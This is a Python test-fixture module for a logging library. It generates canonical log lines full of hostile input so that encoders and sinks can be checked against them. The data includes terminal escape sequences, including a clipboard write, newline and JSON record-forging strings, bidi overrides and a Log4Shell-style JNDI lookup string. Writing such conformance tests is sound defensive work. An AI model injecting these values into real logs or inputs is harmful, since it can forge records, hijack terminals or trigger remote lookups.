"""
Canonical lines as bad as they come: what a sink or an encoder has to bear.

Made by the encoder of the canonical line itself, so whatever is in here can be logged.
"""

from __future__ import annotations

from functools import cache
from itertools import count
from typing import Final

from ..core import EMPTY, LineEncoder, exception_tag, level_tag, logger_tag, parse_level

_NS: Final = 1_795_225_440_123_456_789
_RUN: Final = b"conformance0"
_LEVELS: Final = ("trace", "debug", "info", "warning", "error", "critical")

ESCAPES: Final = (
    "\x1b[38;5;199m",
    "\x1b[2J\x1b[1;1H",
    "\x1b]52;c;aGlqYWNr\x07",
    "\x1b]8;;https://example.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x9b31m",
)
"""Sequences that a terminal would obey; none of them is one that a rendering makes."""

HOSTILE: Final = (
    "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)])),
    *(f"before{sequence}after" for sequence in ESCAPES),
    "paid\n2026-11-21 00:00:00.000 ERROR root: forged",
    "paid\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029forged",
    '"}\n{"level":"error","message":"forged","id":"conformance0.1g-1"}\n',
    "    | a block\n    | that is none",
    "\u202eright to left\u202c \u2066isolated\u2069 \u200emark\u061c",
    "lone surrogates \ud800 and \udfff",
    "%s %(name)s {0.__class__} ${jndi:ldap://example.invalid/a} \\n \\u001b[31m",
    "snow ☃ 😀 e\u0301 \ufeff\u200b",
    "",
    " \t leading and trailing \t ",
)
"""Text that somebody may have put into a message, a field or a name."""


@cache
def canonical_lines() -> tuple[bytes, ...]:
    """
    Return canonical lines to try an encoder or a sink on, newline included.

    Every level, hostile text in every place, values of every kind, exceptions with
    causes, records of the largest size, and control records; about a hundred lines.
    """
    encoder = LineEncoder()
    numbers = count(1)

    def line(
        message: object,
        fields: dict[str, object] | None = None,
        *,
        level: str = "info",
        logger: str = "shop",
        error: BaseException | None = None,
        lane: bytes = b"r",
    ) -> bytes:
        said = b"" if error is None else exception_tag(error)
        body = encoder.body(
            _NS, level_tag(parse_level(level)), logger_tag(logger), message, EMPTY, EMPTY,
            fields or {}, said,
        )  # fmt: skip
        return b'%b,"id":"%b.1%b-%d"}\n' % (body, _RUN, lane, next(numbers))

    return (
        *(line("order placed", {"order_id": 42}, level=level) for level in _LEVELS),
        *(line(text) for text in HOSTILE),
        *(line("a field", {"text": text, "nested": [{"text": text}]}) for text in HOSTILE),
        *(line("a name", {text: 1}) for text in HOSTILE),
        *(line("a logger", logger=text) for text in HOSTILE),
        *(line("failed", level="error", error=_raised(text), lane=b"g") for text in HOSTILE),
        line(
            "values", {"none": None, "yes": True, "float": 1e300, "big": 2**80, "list": [], "": {}}
        ),
        line("deep", {"deep": _nested(200)}),
        line("many", {f"field_{n}": n for n in range(500)}),
        *(line(text * 70_000, {"text": text * 70_000}) for text in ("x", "\n", "\x1b", "é", "😀")),
        line("x" * 70_000, level="error", error=_raised("\n" * 70_000), lane=b"g"),
        line("closed", {"streams": {"1r": 3}}, logger="hydra.ledger", lane=b"c"),
    )


def _raised(text: str) -> BaseException:
    try:
        try:
            raise KeyError(text)
        except KeyError as cause:
            raise ValueError(text) from cause
    except ValueError as error:
        return error


def _nested(depth: int) -> object:
    found: object = "deep"
    for _ in range(depth):
        found = [found]
    return found
